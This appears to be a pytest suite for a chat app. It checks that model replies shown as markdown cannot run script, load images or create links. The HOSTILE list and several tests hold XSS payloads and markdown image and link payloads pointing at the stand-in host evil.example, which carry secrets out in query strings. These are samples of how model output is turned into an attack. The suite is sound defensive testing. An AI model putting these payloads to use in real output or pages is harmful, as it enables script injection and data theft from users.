"""Model output shown as markdown cannot run, load or link anything (OWASP LLM05)."""

import json

import pytest
from markdown_it import MarkdownIt

from app import render, sanitize
from app.sanitize import as_plain, is_inert, model_line, model_text
from assistant.store.store import Exchange

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "hi <script>alert(document.cookie)</script> there",
    '<iframe src="https://evil.example/frame"></iframe>',
    "<svg/onload=alert(1)>",
    "<!-- hidden --><a href='https://evil.example'>click</a>",
    "see <https://evil.example/steal?q=secret>",
    "![chart](https://evil.example/pixel.png?data=SECRET) done",
    "![a [nested] alt](https://evil.example/x.png)",
    "[click here](https://evil.example/login \"Log in\")",
    "[![badge](https://evil.example/b.svg)](https://evil.example)",
    "[ref link][r]\n\n[r]: https://evil.example/ref",
    "![ref image][i]\n\n[i]: https://evil.example/i.png",
    "go to https://evil.example/x?y=1, or www.evil.example.",
    "```mermaid\ngraph TD; A[<img src=https://evil.example/m.png>] --> B\n```",
    "``<img src=x onerror=alert(1)>`",  # a backtick run that opens no span
    "\\`<img src=x onerror=alert(1)>\\`",  # escaped backticks open no span either
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)> | y` |",  # a pipe splits a GFM cell
    "[ref]: https://evil.example\n    <img src=x onerror=alert(1)>",  # no definition, so no code block
    "- [ ](https://evil.example) task-looking link",
    "[multi\nline](https://evil.example)",
]

STATUS = "<sub>local · smollm2 · 0.12 s to first token · 140 tok/s</sub>"


def tokens(markdown: str):
    pending = list(MarkdownIt("commonmark").parse(markdown))
    while pending:
        token = pending.pop()
        yield token
        pending.extend(token.children or ())


def html_tags(markdown: str) -> set[str]:
    """The raw HTML a CommonMark renderer would pass through."""
    return {t.content.strip() for t in tokens(markdown) if t.type in ("html_inline", "html_block")}


def exchange(reply, status="complete", error=None, **fields):
    base = dict(id=1, session_id=1, profile_id=1, user_text="hi", reply=reply, status=status, error=error,
                route="local", model="smollm2", ttft_ms=120.0, tokens=20, tokens_per_s=140.0,
                created_at="2025-01-01T00:00:00+00:00", completed_at="2025-01-01T00:00:01+00:00")
    return Exchange(**{**base, **fields})


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text):
    out = model_text(text)
    assert is_inert(out) and html_tags(out) == set(), out
    assert model_text(out) == out  # sanitising twice changes nothing
    assert is_inert(model_line(text))


def test_html_shows_as_text():
    assert model_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)>"
    assert model_text("<script>alert(1)</script>") == "&lt;script>alert(1)&lt;/script>"
    assert model_text("<iframe src=a></iframe>") == "&lt;iframe src=a>&lt;/iframe>"


def test_images_become_their_alt_text_with_a_note():
    assert model_text("![the chart](https://evil.example/p.png) ok") == "the chart \\[image not loaded\\] ok"
    assert model_text("![](https://evil.example/p.png)") == sanitize.IMAGE_NOTE


def test_links_show_their_url_as_unlinked_code():
    assert model_text("[docs](https://example.com/a_(b))") == "docs (`https://example.com/a_(b)`)"
    assert model_text("[https://example.com](https://example.com)") == "`https://example.com`"
    assert model_text("read https://example.com/x. Then") == "read `https://example.com/x`. Then"
    assert model_text("<https://example.com>") == "&lt;`https://example.com`>"


def test_mermaid_stays_code():
    out = model_text("```mermaid\ngraph TD; A-->B\n```")
    assert out.startswith("```mermaid-source\n") and "A-->B" in out


def test_ordinary_markdown_is_unchanged():
    text = (
        "# Plan\n\nSure! Here is **what** to do, *calmly*:\n\n1. Buy milk & eggs\n2. 3 > 2, so relax\n\n"
        "> a quote\n\n- [ ] open task\n- [x] done task\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nmail me at a@b.org"
    )
    assert model_text(text) == text


def test_code_keeps_its_angle_brackets():
    text = "Compare `a < b` like this:\n\n```python\nif a < b and c > d:\n    print('<ok>')\n```\n\n    <indented> code\n"
    assert model_text(text) == text
    assert model_text("```html\n<div onclick=x>hi</div>") == "```html\n<div onclick=x>hi</div>\n```"


def test_plain_escaping_is_the_fallback(monkeypatch):
    monkeypatch.setattr(sanitize, "_inline", lambda text: text)  # as if the two passes disagreed
    out = model_text("<img src=x onerror=alert(1)> [x](https://evil.example)")
    assert out == as_plain("<img src=x onerror=alert(1)> [x](https://evil.example)")
    for text in HOSTILE:  # escaped punctuation: no tag, link or image, and no "://" for an autolinker
        plain = as_plain(text)
        assert not {t.type for t in tokens(plain)} & {"html_inline", "html_block", "link_open", "image"}
        assert "://" not in plain and "www." not in plain


def test_status_line_survives_a_hostile_reply():
    content = render.reply_content(exchange("<img src=x onerror=alert(1)> ![p](https://evil.example/p.png)"))
    assert html_tags(content) == {"<sub>", "</sub>"}
    assert content.endswith(STATUS)
    for reply in ("Try:\n```python\nprint('<x>')", "Try:\n```python\nprint('<x>')\n\n"):  # cut off in a code block
        cut = render.reply_content(exchange(reply))
        assert "print('<x>')\n```\n" in cut and cut.endswith("\n\n" + STATUS)
        assert html_tags(cut) == {"<sub>", "</sub>"}
    failed = render.reply_content(exchange("partial <b>", status="failed", error="model <crashed>"))
    assert html_tags(failed) == {"<sub>", "</sub>"} and "&lt;crashed>" in failed


def test_memories_and_payload_notes_are_sanitised():
    remembered = exchange("`<img src=x onerror=alert(1)>` ![p](https://evil.example/p.png)", user_text="tell me a`")
    note = render.memories_message({"trace": "t", "memories": [{"id": 1, "score": 0.9}]}, lambda ids: {1: remembered})
    assert html_tags(note["content"]) == {"<sub>", "</sub>"} and "image not loaded" in note["content"]
    sent_text = "<script>x</script> https://evil.example"
    payload = json.dumps({"model": "m", "messages": [{"role": "user", "content": sent_text}]})
    sent = render.payload_message(payload)["content"]
    assert html_tags(sent) == set() and is_inert(sent)
